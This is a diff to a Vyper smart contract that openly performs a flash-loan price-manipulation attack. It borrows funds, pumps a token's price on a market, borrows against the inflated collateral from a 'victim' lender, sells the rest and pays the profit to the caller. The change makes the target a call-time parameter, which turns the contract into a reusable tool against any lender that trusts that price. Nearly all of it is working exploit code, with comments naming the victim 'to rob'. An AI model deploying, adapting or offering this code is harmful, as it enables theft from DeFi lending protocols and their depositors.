@@ -21,36 +21,38 @@ interface Lender:
     def borrow(tokens: uint256) -> uint256: nonpayable
 
 
-# Who lends for a moment, where the price is made, who believes it, and how many tokens we leave behind.
+# Who lends for a moment, and where the price of which token is made.
 flash: immutable(Flash)
 market: immutable(Market)
 token: immutable(IERC20)
-lender: immutable(Lender)
+
+# Who believes the price, and how many tokens we leave behind: for the attack under way.
+lender: Lender
 left: uint256
 
 
 @deploy
-def __init__(flash_lender: address, price_market: address, traded: address, victim: address):
+def __init__(flash_lender: address, price_market: address, traded: address):
     """
-    @notice Name the four contracts that take part.
+    @notice Name the three contracts that serve the attack.
     @param flash_lender Lends without security for one transaction.
     @param price_market Where the token is traded.
     @param traded The token.
-    @param victim The lender to rob.
     """
     flash = Flash(flash_lender)
     market = Market(price_market)
     token = IERC20(traded)
-    lender = Lender(victim)
 
 
 @external
-def rob(loan: uint256, tokens: uint256):
+def rob(victim: address, loan: uint256, tokens: uint256):
     """
     @notice Carry out the attack and pay what it yields to the caller. Anybody may call.
+    @param victim The lender to rob.
     @param loan Wei to borrow for a moment.
     @param tokens Units of the token to leave with the lender.
     """
+    self.lender = Lender(victim)
     self.left = tokens
     extcall flash.borrow(loan)
     raw_call(msg.sender, b"", value=self.balance)
@@ -65,8 +67,8 @@ def on_loan(amount: uint256):
     """
     assert msg.sender == flash.address, "only the flash lender"
     bought: uint256 = extcall market.buy(value=amount)
-    extcall token.approve(lender.address, self.left)
-    extcall lender.borrow(self.left)
+    extcall token.approve(self.lender.address, self.left)
+    extcall self.lender.borrow(self.left)
     extcall token.approve(market.address, bought - self.left)
     extcall market.sell(bought - self.left)
     raw_call(flash.address, b"", value=amount)
